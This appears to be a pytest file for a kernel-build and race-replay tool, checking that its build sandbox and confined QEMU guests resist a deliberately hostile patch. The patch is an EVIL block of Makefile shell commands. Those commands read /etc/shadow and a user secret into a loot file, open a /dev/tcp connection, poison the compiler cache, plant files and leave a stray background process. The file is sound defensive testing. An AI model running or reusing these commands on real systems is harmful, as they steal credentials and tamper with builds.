# SPDX-License-Identifier: GPL-2.0-only
"""A hostile series on a real kernel changes and learns nothing; later kernels are the same."""

import difflib
import os
import re
import shutil
import socket
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from mmrace.definitions.race import load_race
from mmrace.home import Home
from mmrace.proc import can_confine
from mmrace.runs import kernels
from mmrace.runs.options import RunOptions
from mmrace.runs.planner import Planner
from mmrace.runs.replay import start
from mmrace.sources.tree import find_tree, store

TREE = "debian:6.1"
MARK = "mmrace-hostile-test"
pytestmark = pytest.mark.slow

EVIL = """
_x := $(shell echo {mark} > {user}/planted; echo {mark} > $$HOME/{mark}; echo {mark} > /{mark})
_x := $(shell cat {user}/secret /etc/shadow > /build/loot 2>/dev/null; cat /build/loot >&2)
_x := $(shell bash -c 'echo hello > /dev/tcp/127.0.0.1/{port}')
_x := $(shell find /ccache -type f -newer /src/Makefile -exec sh -c 'echo {mark} > {{}}' \\; )
_x := $(shell mkdir -p /ccache/0 && echo {mark} > /ccache/0/{mark})
_x := $(shell (setsid sleep 4713 > /dev/null 2>&1 &))
"""


@pytest.fixture
def home(tmp_path, monkeypatch):
    """One of its own, with the sources and a copy of the compiler cache: others may be building."""
    known = Home.from_environment(os.environ)
    find_tree(known, TREE, lambda _text: None)
    return apart(known, tmp_path / "first", monkeypatch)


def apart(known, folder, monkeypatch):
    (folder / "data").mkdir(parents=True)
    (folder / "cache").mkdir()
    (folder / "data/trees").symlink_to(known.trees)
    known.ccache.mkdir(parents=True, exist_ok=True)
    shutil.copytree(
        known.ccache,
        folder / "cache/ccache",
        ignore=shutil.ignore_patterns("tmp"),
        copy_function=copy_what_is_left,
    )
    monkeypatch.setenv("MMRACE_HOME", str(folder))
    return Home.from_environment(os.environ)


def copy_what_is_left(source, target):
    with suppress(FileNotFoundError):
        shutil.copy2(source, target)


def hostile_patch(home, folder, port):
    """Appends to the top Makefile, which every make reads first."""
    tree = find_tree(home, TREE, lambda _text: None)
    old = store(home).file(tree.commit, "Makefile").decode()
    new = old + EVIL.format(mark=MARK, user=folder, port=port)
    lines = difflib.unified_diff(
        old.splitlines(True), new.splitlines(True), "a/Makefile", "b/Makefile"
    )
    path = folder / "hostile.patch"
    path.write_text("".join(lines))
    return path


def cache(home):
    """All objects of the shared compiler cache; it counts hits in files named stats."""
    paths = [path for path in home.ccache.rglob("*") if path.is_file() and path.name != "stats"]
    return {(str(path), path.stat().st_size, path.stat().st_mtime_ns) for path in paths}


def test_a_hostile_series_changes_and_learns_nothing(mmrace, home, tmp_path, monkeypatch):
    clean = mmrace("build", "--tree", TREE)
    assert clean.code == 0, clean.text
    user = tmp_path / "user"
    user.mkdir()
    (user / "secret").write_text("xyzzy-secret\n")
    before = cache(home)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.5)
        patch = hostile_patch(home, user, listener.getsockname()[1])
        files = set(user.iterdir())
        built = mmrace("build", "--tree", TREE, "--series", str(patch))
        with pytest.raises(TimeoutError):
            listener.accept()
    assert built.code == 0, built.text
    assert "xyzzy" not in built.text
    assert not built.document["reused"]
    assert cache(home) == before
    assert set(user.iterdir()) == files
    assert not (Path.home() / MARK).exists()
    assert not (Path("/") / MARK).exists()
    assert not list(home.builds.glob("*-outside"))

    # A home that has seen no attack, but for the compiler cache that the series could read.
    apart(home, tmp_path / "second", monkeypatch)
    again = mmrace("build", "--tree", TREE)
    assert again.code == 0, again.text
    assert not again.document["reused"]
    assert again.document["kernel_id"] == clean.document["kernel_id"]
    for name in ("image", "vmlinux", "config"):
        expected = Path(clean.document[name]).read_bytes()
        assert Path(again.document[name]).read_bytes() == expected, name


@contextmanager
def quiet(_title):
    yield lambda _text: None


@pytest.mark.skipif(not can_confine(), reason="this host does not let us")
def test_a_kernel_that_is_replayed_has_no_disk_no_network_and_no_right_of_the_host():
    """What a guest can get at, once it has taken over its QEMU, is what QEMU can get at."""
    home = Home.from_environment(os.environ)
    race = load_race("khugepaged-retract")
    built = kernels.build(home, TREE, ("vulnerable", "fixes"), (), quiet)
    options = RunOptions(accel="tcg", seconds=5, seed=1, steer=False)
    cell = Planner(home, quiet).plan(built, race, race.workload[0], options)
    with start(home, cell.spec, cell.parts(home)) as kept:
        guest = kept.restore()
        guest.stub.resume(guest.stub.threads)
        assert guest.ask("query-block") == []
        found = [path for path in qemus() if f"id=channel,path={guest.sockets}" in command(path)]
        assert found
        for process in found:
            status = (process / "status").read_text()
            assert re.findall(r"Cap(?:Inh|Prm|Eff|Amb):\s*(\w+)", status) == ["0" * 16] * 4
            assert re.search(r"NoNewPrivs:\s*1\n", status), "it could get some by execve()"
            seen = process / "root"
            assert not [path for path in (seen / "dev").iterdir() if path.is_block_device()]
            names = {path.name for path in seen.iterdir()}
            assert names <= {"bin", "dev", "etc", "lib", "lib32", "lib64", "libx32", "proc", "root",
                             "sbin", "tmp", "usr"}, names  # fmt: skip
            assert not (seen / "etc/shadow").exists()
            assert not (seen / str(home.trees).lstrip("/")).exists()
            interfaces = (process / "net/dev").read_text().splitlines()[2:]
            assert [line.split(":")[0].strip() for line in interfaces] == ["lo"]


def qemus():
    """Processes that are QEMU, not what has started one."""
    for path in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            if (path / "exe").resolve().name.startswith("qemu-system"):
                yield path


def command(process):
    return (process / "cmdline").read_bytes().replace(b"\0", b" ").decode()
